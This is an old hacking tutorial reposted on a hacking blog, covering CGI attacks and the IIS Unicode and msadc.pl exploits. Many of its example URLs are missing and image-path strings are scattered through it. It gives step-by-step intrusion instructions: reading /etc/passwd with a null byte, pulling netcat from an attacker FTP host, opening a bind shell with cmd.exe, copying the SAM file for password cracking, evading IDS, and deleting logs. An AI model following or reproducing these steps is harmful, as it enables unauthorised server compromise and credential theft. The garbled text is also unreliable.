Hacking CGI -Perl CGI Problems - http://www.phrack.com/phrack/55/P55-07

Just to get you in the mood we will have a brief look at CGI exploitation.
There are three main types of CGI hacking; URL encoding attacks, input validation exploits and buffer overflows.

The first thing to keep in mind is that you are already able to exploit cgi using the techniques from previous sections. First, we need to cover some background. CGI can take lots of shapes and forms. One popular use is viaweb based forms that submit information to a CGI via a GET or POST.

When the user clicks on the submit button his information is passed to the CGI script to process either via the URL (GET) or via HTTP headers (POST).
Lets assume that the CGI we are going to exploit asks the user for the name of a file to display. The 'GET' method uses the URL to pass the information and it would look like this:


Lets break that down:
  ?            - separates the request from the parameters
  filename     - this is the name of the textbox in the html
  =            - assignment for the parameter/value pair
  /etc/passwd  - this is what the user typed into the box

You can have multiple fields within a HTML form and these will also be passed to the CGI. They are separated using a '&':

If you were thinking how could you alter the user supplied input to break the CGI then good, you're starting to think in terms ofsecurity. Lots of developers love to program new and interesting things but they do not consider security. A security conscious programmer would write input validation routines that would process the data and ensure the user wasn't be malicious or curious.

As you read through some of the free scripts on the web you will start to realise that many programmers do not think about security. Lets look briefly at some ways we could exploit the CGI. The first thing to keep in mind is that you already know the generic exploits from the previous section. The only area in which we are lacking is programming language specific info.

We will stick with the example cgi that open's a file (and let's assume its written Perl). Lets look at some of the things we can try:and lets do the same thing but encode the URL to bypass security checks:


If you have read the RFP document above then you will be familiar with poison null bytes. Stop now and go read it... can't be arsed? ok then, here's the quick version. is valid in a string with Perl but is NUL in C. So? When Perl wants to open the file it makes a request to the operating system through a system call. The operating system is written in C and is a string delimiter. Lets apply this technique to the following situation.

I decide to secure my CGI. I append '.html' to any request. This means that the user can only view html files and if they try something else then it doesn't exist. wh00p @ me :-)

But... what if I was to do the following:


In Perl the filename string would look like this:

Perfectly valid under Perl. I have done my job... or have I? When this is passed to the OS (which is written in C not Perl) the request looks like this:

The OS identifies as the string delimiter and ignores anything that
Comes after it. The webserver then displays the /etc/passwd file... bugger :-(

Many people download scripts from the web and look for problems in the script. Then the wiley hax0r will go to altavista and search for sites that are using that script, eg:


and good old altavista provides a listof sites that are just ripe for the taking.

The final method of exploiting CGI is via buffer overflows. Languages like Java and Perl are immune to buffer overflows because the language looks after memory management. Programs written in a language such as C are vulnerable because the programmer is supposed to manage the memory. Some programmers fail to check the size of data it is fitting into the memory buffer and overwrites data in the stack.

The goal of the buffer overflow is tooverwrite the instruction pointerwhich points to the location of the next bit of code to run. An attacker will attempt to overwrite this pointer with a new pointer that points to attacker's code, usually a root shell.

Quite a few CGI's exist that are vulnerable to this type of attack. For Example, counter.exe is one such CGI. By writing 2000 A's to the CGI causea Denial of Service (DoS).

The details of buffer overflows are beyond the scope of this document. Look out for a future release ;-)

If you want to dig deeper in buffer overflows then have a look at:


--[On the seventh day, God chilled and haxored the planet]

Well.. I guess its time we actually tried some of the things discussed but I'm not going to cover everything. I suggest going to the following URL's and searching for IIS:My main reason for doing this file was to better understand Unicode exploits and so that is going to be the focus of the exploitation. The first exploit I'm going to go through is the recent Unicode exploit for IIS4/5:


Before I get emails saying 'hold on, you said that %xx%xx is UTF-8" let me explain. This had wide exposure on Bugtraq as the Unicode exploit. In reality, this is not a Unicode sploit but a UTF-8 sploit. I'm going to keep calling this the Unicode exploit because its now referenced by this name in the Bugtraq archives and you'll have to search using Unicode to do furtherresearch.

Ok, rant over... To check if the server is exploitable, request the
following URL:

You should get a directory listing of the C:\ drive on the target server.
The important thing to note is that the Unicode string can vary depending where in the world you are. Some possible alternatives include:

  %c1%1c %c0%9v %c0%af %c0%qf %c1%8s %c1%9c %c1%pc

There are many more to choose from, just look at some of the Bugtraq posts or research UTF-8 for more alternatives.

OK, you can read the directory... what next? You have the directory listing and the ability to run commands, so you need to find the web root. By default, the web root is at:

If its not there then go and look for it. Let's write a text file there and see if we can see it:

hmmm.. it seems that we don't have write access. Ok, no problem we can get around that by creating a copy of the cmd.exe that has write privileges:
Let's check if it worked:
Yep.. all's good so far. Lets try and write to the web root:
Let's open up it up in the browser and see if we can see it:

w00t!!! Write access!!! Right, we now have some options open to us. In the words ofMicrosoft, where do you want to go today? Working via the URL is pretty clunky and I like the comfort of a nice command prompt, So lets do that. I want to bring over a copy of netcat and a nice html page that I'll use to replace the existing one.

First I need to think about the script I want to run that will getthe
files I need from my FTP server:

  open ftp.evilhaxor.com
  cd pub
  get nc.exe
  get hacked.html

Right. I need to get this script onto the webserver:OK.. now we have created a script on the server called fugscript. Next step is to execute the script and get my files from my web server.

If all goes well the server should begin the FTP transfer and get your files transferred. Be patient and give it time to transfer. Now you are ready to get netcat listening on a port. The command line for starting netcat is:
nc.exe -l -p 6667 -e cmd.exe
This tells netcat to listen (-l) on port 6667 (-p) and to spawn cmd.exe (-e) when someone connects.
The last step is to translate this command into URL speak ;-):


Fire up a telnet session and connect to port 6667 on the target system and voila... you have a cmd prompt. I really hate web defacements... so if your going to do it then rename the existing index.htm (or default.htm) to something like index.htm.old (give the poor admin a break, cause you can bet your arse that he hasn't made a backup). ALSO: you are now using a system without authorisation and as such, you are guilty under the Computer Misuse Act in the UK and probably of something similar in your own country. If it never occurred to you to delete the contents of c:\winnt\system32\logfiles or the 'fugscript' file then you really shouldn't be doingthis.

It just wouldn't be right to talk about IIS exploitation without mentioning msadc.pl. rfp's perl script is a perfect example of exploit chaining. A single exploit is not used but a chain of exploits to get the script towork.

The exploit utilises a combination of inadequate application input validation and default install fun. The process tries to connect to a Data Source Name (DSN) to execute commands.

rfp's script tests for the existence /msadc/msadc.dll using the GET method. This test will be logged and you should edit the script to make it a HEAD request and add some URL obfuscation madness.

The default msadc.pl script uses "!ADM!ROX!YOUR!WORLD!" as the MIME separator string. It is advised to change this string as some IDS's are configured to identify this string.

If you want to write your own scanners then you should be looking for headers with thecontent type:

and of course the IIS version :-) I don't want to go into too much detail because this is heavily documented on rfp's site:

How do I use it? I hear you cry... well, its child's play:
./msadc2.pl -h www.target.com
If all goes well then you should be presented with the following:
Its interesting to note at this point that 'cmd /c' will is run as with the previous exploit. You can edit the script to run any other executable such as 'rdsik /s' instead.

This is good, you can know enter the command you want to run on the server.
The previous Unicode exploit should have given you some ideas but here's a couple that come to mind:

  Example 1:
copy c:\winnt\repair\sam._ c:\inetpub\wwwroot\fug.hak
  (grabbing fug.hak via your browser should give you a nice file to fire up in L0phtcrack or JTR)
Example 2:
echo open ftp.evilhaxor.com>fugscript && echofug>>fugscript && echo mypassword>>fugscript... etc. etc.
Anyway, that's about all for now. When I can be bothered I'll add some more methods to this file. Until then, ensure your box is fully patched and the default scripts are removed. Go have a look at the following URL and get secure:


Greetz to: ReDeeMeR, BarnseyBoy, Reeferman, gabbana, think12, Wang, Enstyne, [502BOP], Muad_Dib, Macster, n0face, palmito, kph, Homicide, Col, Axem, Booto, _Penguin, nsh, Chawmp, shad, hellz and everyone in #CA who are way too numerous to mention.

You can leave a response, or trackback from yourown site.

About 'Anu': My name is 'Anu' also Known as 'ANU 007 TIGER' .I'm administrator of 'PC Tips by Anu'blog .This blog was opened for sharing contents about hacking n cracking.Post a Comment

Back to Top